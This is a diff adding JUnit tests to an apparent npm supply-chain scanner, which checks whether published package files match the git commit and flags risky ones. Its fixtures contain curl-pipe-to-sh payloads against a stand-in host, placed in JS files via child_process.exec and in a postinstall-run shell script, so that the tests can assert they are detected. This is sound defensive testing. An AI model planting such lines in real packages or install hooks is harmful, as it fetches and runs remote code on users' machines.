@@ -265,6 +265,90 @@ class NpmScanTest {
         }
     }
 
+    /** Like {@link #publishAndScan}, with the registry's version document saying which npm published it. */
+    private ArtifactReport publishedByNpm(String npmVersion, SortedMap<String, byte[]> tree, String version,
+                                          SortedMap<String, byte[]> shipped) throws Exception {
+        commit(tree, version);
+        git.tag("v" + version, false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish(version, shipped).put("_npmVersion", npmVersion);
+            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
+        }
+    }
+
+    @Test
+    void aFileAPublishScriptWritesByRedirectIsBuildOutputStillScannedAndNeverAnEntryOrTheManifest() throws Exception {
+        String scripts = ",\n  \"scripts\": {\"prepublish\": \"node build/build.js > types.json && node b > index.js\","
+                + " \"prepare\": \"runmd --output README.md src/README_js.md; node c > lib/run.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "types.json", "{\"a\":[\"x\"]}\n", "README.md", "# widget\n");
+        String longJson = "{\"b\":[\"" + "y".repeat(5000) + "\"]}";
+        ArtifactReport a = publishedByNpm("5.6.0", tree, "4.9.0", with(tree, "types.json", longJson,
+                "README.md", "# widget\n\nrendered\n",
+                "lib/run.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n",
+                "index.js", "module.exports = 2;\n"));
+        FileDivergence types = row(a, "package/types.json");
+        assertEquals(FileStatus.BUILD_OUTPUT, types.status());
+        assertTrue(types.detail().orElseThrow().contains("prepublish script"), types.detail().orElseThrow());
+        assertFalse(types.riskFlags().contains(RiskFlag.OBFUSCATED), "one-line JSON is JSON.stringify's output");
+        assertFalse(types.highRisk());
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/README.md").status());
+        FileDivergence run = row(a, "package/lib/run.js");
+        assertEquals(FileStatus.BUILD_OUTPUT, run.status());
+        assertTrue(run.highRisk(), "a written file's content is still scanned");
+        // the main module a script overwrites stays compared with the commit's
+        FileDivergence main = row(a, "package/index.js");
+        assertEquals(FileStatus.MODIFIED, main.status());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void aFileWrittenOnlyByAScriptThatDidNotRunAtPublishIsNotExplained() throws Exception {
+        // npm 7+ no longer runs prepublish on publish; a script only the published manifest declares explains
+        // nothing; a stderr log and a command run in another folder write no file of the package
+        String src = ",\n  \"scripts\": {\"prepublish\": \"node b > a.js\", \"prepack\": \"node-gyp rebuild 2> c.js;"
+                + " cd lib && node d > d.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.1", src),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        String payload = "require('child_process').exec('curl -s https://example.invalid | sh');\n";
+        ArtifactReport a = publishedByNpm("7.24.0", tree, "4.9.1", with(tree, "a.js", payload, "c.js", payload,
+                "d.js", payload, "lib/d.js", payload));
+        for (String p : List.of("a.js", "c.js", "d.js", "lib/d.js")) {
+            assertEquals(FileStatus.PHANTOM, row(a, "package/" + p).status(), p);
+            assertTrue(row(a, "package/" + p).highRisk(), p);
+        }
+        SortedMap<String, byte[]> tree2 = files("package.json", pkgJson("widget", "4.9.2", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport b = publishedByNpm("5.6.0", tree2, "4.9.2", with(tree2, "e.js", payload, "package.json",
+                pkgJson("widget", "4.9.2", ",\n  \"scripts\": {\"prepare\": \"node b > e.js\"}")));
+        assertEquals(FileStatus.PHANTOM, row(b, "package/e.js").status());
+        assertEquals(Verdict.HIGH_RISK, b.verdict());
+    }
+
+    @Test
+    void aLogAnInstallScriptWritesIsNotRunByItButWhatItRunsOrReadsIs() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.0",
+                        ",\n  \"scripts\": {\"install\": \"(node-gyp rebuild 2> builderror.log) || (exit 0)\","
+                                + " \"postinstall\": \"node setup.js >> setup.log 2>&1; sh < fix.sh\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n",
+                "setup.js", "module.exports = 0;\n", "fix.sh", "true\n");
+        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree,
+                "builderror.log", "gyp info it worked if it ends with ok\ngyp ERR! stack Error: `make` failed: exec\n",
+                "setup.log", "done\n", "setup.js", "module.exports = 1;\n", "fix.sh", "curl -s https://example.invalid | sh\n"));
+        FileDivergence log = row(a, "package/builderror.log");
+        assertEquals(FileStatus.PHANTOM, log.status());
+        assertFalse(log.riskFlags().contains(RiskFlag.AUTO_EXEC), log.riskFlags().toString());
+        assertFalse(log.highRisk());
+        assertFalse(row(a, "package/setup.log").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        for (String p : List.of("setup.js", "fix.sh")) {
+            FileDivergence f = row(a, "package/" + p);
+            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
+            assertTrue(f.highRisk(), p);
+        }
+    }
+
     @Test
     void scriptsThatDoNotRunOnAConsumersInstallAreAFindingNotHighRisk() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.0.0", ""),
